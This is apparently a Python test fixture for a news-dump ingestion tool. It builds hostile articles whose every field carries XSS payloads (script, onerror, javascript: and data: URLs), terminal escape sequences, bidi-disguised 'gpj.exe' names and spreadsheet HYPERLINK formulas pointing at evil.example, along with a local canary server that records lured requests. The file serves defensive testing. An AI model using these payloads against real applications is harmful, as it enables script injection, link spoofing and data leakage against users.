"""What an attacker writes into a dump: payloads, the articles that carry them, and a server that
notices whoever is lured to it."""

import json
import random
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

BIDI = "\u202e\u2066\u200f"
"""Override, isolate and mark: each reorders what follows it on the screen (UAX 9)."""

ESCAPES = "\x1b]0;owned\x07\x1b[31m\x1b]8;;http://evil.example\x07here\x1b]8;;\x07\x9b31m"
"""What sets a terminal's title, its colour, and a link."""

RICH = "[red]shout[/red] [link=http://evil.example]here[/link]"
"""Markup of the library that writes to the terminal."""

FORMULA = '=HYPERLINK("http://evil.example/"&A1,"here")'


SECRET = "hunter2-of-this-machine"
"""What no log, page, address, export or run may hold."""

SECRETS = {
    "AWS_SECRET_ACCESS_KEY": SECRET,
    "MOTORWIRE_API_TOKEN": SECRET,
    "PGPASSWORD": SECRET,
}
"""Secrets as they stand in the environment of a server."""


@dataclass
class Canary:
    """A server on this machine that nobody has a reason to ask, and what it was asked."""

    url: str
    asked: list[str] = field(default_factory=list)


@contextmanager
def canary_server() -> Iterator[Canary]:
    """The canary, alive while entered."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            canary.asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *_values: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        canary = Canary(f"http://127.0.0.1:{server.server_port}")
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield canary
        finally:
            server.shutdown()
            thread.join()


def markup(canary: str) -> str:
    """Everything that becomes more than text where a page reads it as HTML or as Markdown."""
    return (
        "<script>window.hacked=1</script><img class=planted src=x onerror=window.hacked=1>"
        "<svg class=planted onload=window.hacked=1></svg>"
        f"<iframe class=planted src={canary}/frame></iframe>"
        f"<img class=planted src={canary}/html.png> ![x]({canary}/markdown.png) "
        "[click](javascript:window.hacked=1) <javascript:window.hacked=1> :red[shout] "
        f":material/bolt: :streamlit: $$x^2$$ `code` **bold** www.evil.example {BIDI}gpj.exe"
    )


def hostile_name(canary: str) -> str:
    """A company's name; short enough for an address."""
    return (
        f"Evil <img class=planted src=x onerror=window.hacked=1>![x]({canary}/name.png)"
        f"[a](javascript:window.hacked=1) :red[shout] $$x^2$$ :material/bolt: **bold** {BIDI}"
    )


VIEW_NAME = "[a](javascript:window.hacked=1) <b class=planted>:red[shout]"


def escaped_markup(canary: str) -> str:
    """The same as feeds write it. Tags that stand in a field as they are get lost when it is read;
    escaped ones come through whole."""
    return markup(canary).replace("<", "&lt;").replace(">", "&gt;")


_STORIES = (
    ("Evilcorp recalled 12,400 cars on 5 March 2024 because of {} its batteries.",
     "Owners are asked to park outside until a garage has looked at the cells of their cars."),
    ("Evilcorp and Toyota signed a joint venture on 6 March 2024 to build {} batteries.",
     "Both want to share the cost of a laboratory near the coast, where the first samples were."),
    ("Mock Motors Inc. appointed Jane Doe as {} its chief executive on 7 March 2024.",
     "She had led the purchasing department of a maker of lorries for eleven years before."),
    ("Evilcorp will open {} a battery plant in Graz by June 2025, it said on Friday.",
     "The town council voted for the new road, and the railway will move its freight yard."),
    ("Evilcorp unveiled the Aurora 5 with {} a new voice assistant on 8 March 2024.",
     "It understands nine languages, and reviewers liked the seats more than its jokes."),
)  # fmt: skip
"""Sentences that tell of events, with room for an attack, and what else the article says."""


_THINGS = (
    "road bridge garden market river school window letter kitchen mountain ticket engine bakery"
    " harbour lamp orchestra painter winter harvest library station valley meadow teacher"
).split()


def _chatter(number: int) -> str:
    """Harmless words that no other article has in this order: else they would be one report."""
    chance = random.Random(number)
    told = [" ".join(chance.choices(_THINGS, k=8)) for _ in range(40)]
    return " ".join(f"The {words} were there." for words in told)


def hostile_articles(canary: str) -> list[dict[str, object]]:
    """Articles that tell of events, with an attack in every field that a dump has."""
    attack, escaped = markup(canary), escaped_markup(canary)
    urls = (
        "javascript:window.hacked=1//",
        "data:text/html,<script>window.hacked=1</script>",
        f"https://good.example/{BIDI}gpj.exe",
        f"https://good.example/)![x]({canary}/url.png)",
        'https://good.example/"><img src=x onerror=window.hacked=1>',
    )
    found: list[dict[str, object]] = [
        {
            "id": f"{FORMULA}{attack}{number}",
            "title": f"{sentence.format('')} {escaped} {RICH}{ESCAPES}",
            "text": f"{sentence.format(escaped)}\n# {other}\n{other} {RICH}{ESCAPES} {FORMULA}\n"
            + _chatter(number),
            "source": f"{FORMULA} {attack}{ESCAPES}{number}",
            "author": f"@SUM(1) {attack}",
            "url": url,
            "date": f"2024-03-0{number + 1}",
            f"x{attack}{RICH}{ESCAPES}": attack,
        }
        for number, ((sentence, other), url) in enumerate(zip(_STORIES, urls, strict=True))
    ]
    found.append({"title": attack, "text": [attack], "source": escaped, "url": urls[0]})
    found.append({"title": f"Kurz {escaped}", "text": f"{ESCAPES}{RICH} {attack}"})
    return found


def write_dump(path: Path, articles: list[dict[str, object]]) -> Path:
    """The articles as JSON Lines, with a last line that is broken in an evil way."""
    lines = [json.dumps(article) for article in articles]
    path.write_text("\n".join([*lines, f"{{<script>window.hacked=1</script>{ESCAPES}"]) + "\n")
    return path
